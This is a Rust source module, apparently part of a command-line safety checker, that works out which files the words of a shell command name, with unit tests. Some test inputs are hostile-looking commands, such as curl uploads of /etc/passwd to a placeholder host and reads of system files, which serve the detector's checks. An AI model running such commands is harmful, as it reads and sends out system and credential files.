//! Which files the words of a part name.

use super::words::words;
use crate::{Note, Part, Reading, Stdin, Text};

/// Everything of a part that may be a file: operands behind the words that a rule spells out, values of options and of
/// variables. Redirections are judged by themselves.
pub(super) fn of_part(part: &Part, spelled: &[usize], reading: &Reading, home: &str) -> Vec<Text> {
    let mut files: Vec<Text> = Vec::new();
    // A program that is named by where it lies is a file like any other, unless it lies where programs do.
    files
        .extend(part.words.first().filter(|word| words().program(word.shown(), home).contains('/')).cloned());
    files.extend(operands(part, spelled, home));
    files.extend(part.assignments.iter().map(|(_, value)| value).filter(|value| is_far(value)).cloned());
    files.extend(part.via.iter().flatten().filter_map(value_of_option).filter(is_far));
    if part.is(Note::MoreWords) && may_add_files(part, home) {
        let listed = gets_listed_files(part, reading, home);
        files.retain(|file| !(listed && file.known_start().is_empty() && !file.shown().contains('$')));
        files.extend((!listed).then(|| Text::unknown("(more words)")));
    }
    let found = part.via.iter().any(|via| finds_files(via, home));
    files.into_iter().map(|file| if found { where_found(file) } else { file }).collect()
}

/// Whether words that come in when it runs can name files: not for programs that take none, nor for numbers of jobs.
fn may_add_files(part: &Part, home: &str) -> bool {
    let Some(program) = part.words.first() else { return false };
    let mut unknown = part.words.iter().filter(|word| !word.is_known()).peekable();
    let counts = unknown.peek().is_some() && unknown.all(is_count);
    !counts && !words().takes_no_files(words().program(program.shown(), home))
}

/// Whether a wrapper runs its command with the names of files below folders that are judged with it.
fn finds_files(via: &[Text], home: &str) -> bool {
    let program = via.first().map(|word| words().program(word.shown(), home));
    program.is_some_and(|program| ["find", "fd", "fdfind"].contains(&program))
}

/// For a name that such a wrapper fills in (`./{}`), the folder it is found in.
fn where_found(file: Text) -> Text {
    match file.shown().strip_suffix("{}") {
        Some(folder) if folder == file.known_start() && !folder.is_empty() => Text::known(folder),
        _ => file,
    }
}

fn operands(part: &Part, spelled: &[usize], home: &str) -> Vec<Text> {
    let Some(program) = part.words.first() else { return Vec::new() };
    let program = words().program(program.shown(), home);
    if words().takes_no_files(program) {
        return Vec::new();
    }
    let mut pattern_first = words().begins_with_pattern(program) && !part.words.iter().any(gives_pattern);
    let mut after_text_option = false;
    let mut only_operands = false;
    let mut files = Vec::new();
    for (place, word) in part.words.iter().enumerate().skip(1) {
        let shown = word.shown();
        let is_value = std::mem::take(&mut after_text_option) && !shown.starts_with('@');
        if is_count(word) {
            continue;
        }
        if !only_operands && shown.starts_with('-') && shown.len() > 1 {
            only_operands = shown == "--";
            after_text_option = words().takes_text(program, shown);
            files.extend(value_of_option(word).filter(is_far).filter(|_| !is_value));
        } else if is_value || spelled.contains(&place) || is_address(shown) || is_stream(word) {
        } else if pattern_first {
            pattern_first = false;
        } else {
            files.push(file_of(word));
        }
    }
    files
}

/// Whether a word gives the pattern by an option (`-e`, `-f`), so that the first operand is a file like the others.
fn gives_pattern(word: &Text) -> bool {
    const HARMLESS: [&str; 8] = [
        "--recursive",
        "--exclude",
        "--exclude-dir",
        "--extended-regexp",
        "--fixed-strings",
        "--regexp-extended",
        "--files-with-matches",
        "--raw-output",
    ];
    let shown = word.shown();
    let long = ["--e", "--f", "--r", "--type-list"].iter().any(|start| shown.starts_with(start));
    match shown.strip_prefix('-') {
        Some(_) if shown.starts_with("--") => {
            long && !HARMLESS.iter().any(|known| shown.split('=').next() == Some(known))
        }
        Some(letters) => letters.contains(['e', 'f']),
        None => false,
    }
}

/// The value that stands in the same word as its option: `--output=x`, `-I../x`, `if=/dev/x`.
fn value_of_option(word: &Text) -> Option<Text> {
    let shown = word.shown();
    if let Some(sign) = shown.find('=') {
        return Some(word.from(sign + 1));
    }
    if !shown.contains(['/', '~']) && !shown.contains("..") && word.is_known() {
        return None;
    }
    let short = shown.starts_with('-') && !shown.starts_with("--");
    let long =
        ["-isystem", "-iquote", "-idirafter", "-include"].iter().find(|option| shown.starts_with(**option));
    let letter = || shown.char_indices().nth(2).map_or(shown.len(), |(at, _)| at);
    Some(word.from(if short { long.map_or_else(letter, |option| option.len()) } else { 0 }))
}

/// An operand as a file: `name=value` words and `@file` by what stands behind the sign.
fn file_of(word: &Text) -> Text {
    let shown = word.shown();
    let named = shown.find('=').filter(|sign| {
        shown[..*sign].bytes().all(|byte| byte.is_ascii_alphanumeric() || b"_-.".contains(&byte))
    });
    let value = match named {
        Some(sign) if is_far(&word.from(sign + 1)) => word.from(sign + 1),
        _ => word.clone(),
    };
    let sign = ["file://", "@/", "@.", "@~"].iter().find(|sign| value.shown().starts_with(**sign));
    match sign {
        Some(sign) if sign.starts_with('@') => value.from(1),
        Some(sign) => value.from(sign.len()),
        None => value,
    }
}

/// Whether a word is what another part of the line prints: `<(...)`. That part is judged itself.
fn is_stream(word: &Text) -> bool {
    !word.is_known() && word.known_start().is_empty() && word.shown().starts_with(['<', '>'])
}

/// Whether a word says how many jobs run at a time: `-j$(nproc)`.
pub(super) fn is_count(word: &Text) -> bool {
    ["-j", "--jobs=", "--parallel="].contains(&word.known_start())
}

/// Whether a value can only be a file somewhere else than right here, or is not known.
fn is_far(value: &Text) -> bool {
    let shown = value.shown();
    let unknown = !value.is_known();
    (unknown || shown.contains('/') || shown.starts_with('~') || shown == "..") && !is_address(shown)
}

/// Whether a word is an address of the network: `https://...`. A `file:` is none.
pub(super) fn is_address(word: &str) -> bool {
    word.split_once("://").is_some_and(|(scheme, _)| {
        scheme != "file"
            && !scheme.is_empty()
            && scheme.bytes().all(|byte| byte.is_ascii_alphanumeric() || byte == b'+')
    })
}

/// Whether the words that come from standard input are names of files below folders that are judged themselves.
fn gets_listed_files(part: &Part, reading: &Reading, home: &str) -> bool {
    let Stdin::Piped(sources) = &part.stdin else { return false };
    let mut listed = false;
    for source in sources {
        let Some(source) = reading.parts.get(*source) else { return false };
        let shown: Vec<&str> = source.words.iter().map(Text::shown).collect();
        let Some(first) = shown.first() else { return false };
        let mut plain = shown.clone();
        plain[0] = words().program(first, home);
        let lists = words().lists_files(&plain);
        if !lists && !words().is_sieve(&plain) {
            return false;
        }
        listed |= lists;
    }
    listed
}

#[cfg(test)]
mod tests {
    use super::*;

    fn part(line: &str) -> Part {
        let word = |word: &str| if word.starts_with('$') { Text::unknown(word) } else { Text::known(word) };
        Part { words: line.split(' ').map(word).collect(), ..Part::default() }
    }

    #[test]
    fn the_files_of_a_part() {
        let check = |line: &str, spelled: usize, want: &[&str]| {
            let spelled: Vec<usize> = (0..spelled).collect();
            let files = of_part(&part(line), &spelled, &Reading::default(), "/home/u");
            let files: Vec<&str> = files.iter().map(Text::shown).collect();
            assert_eq!(files, want, "{line}");
        };
        check("cat a ../b", 1, &["a", "../b"]);
        check("cargo test foo", 2, &["foo"]);
        check("ls -la", 1, &[]);
        check("/usr/bin/ls", 1, &[]);
        check("./build/../../x a", 1, &["./build/../../x", "a"]);
        check("echo /etc/passwd", 1, &[]);
        check("grep -rn /etc/ src", 1, &["src"]);
        check("grep -e x /etc/passwd", 1, &["/etc/passwd"]);
        check("grep -rne x /etc/passwd", 1, &["x", "/etc/passwd"]);
        check("grep -A 3 /x/ src", 1, &["src"]);
        check("rg --files /etc", 1, &["/etc"]);
        check("sed -n /a/p f", 1, &["f"]);
        check("awk -F : /x/{print} f", 1, &["f"]);
        check("sort --output=/etc/x a", 1, &["/etc/x", "a"]);
        check("gcc -I../x a.c", 1, &["../x", "a.c"]);
        check("gcc -isystem/usr/include -Isrc/x a.c", 1, &["/usr/include", "src/x", "a.c"]);
        check("make PREFIX=/usr all", 1, &["/usr", "all"]);
        check("curl https://a.b/c", 1, &[]);
        check("curl file:///etc/passwd", 1, &["/etc/passwd"]);
        check("curl -F a=@/etc/passwd http://x", 1, &["/etc/passwd"]);
        check("curl -d @/etc/passwd http://x", 1, &["/etc/passwd"]);
        check("cat $X", 1, &["$X"]);
        check("git commit -m /etc/x", 2, &[]);
        check("cat -- -f", 1, &["-f"]);
    }
}
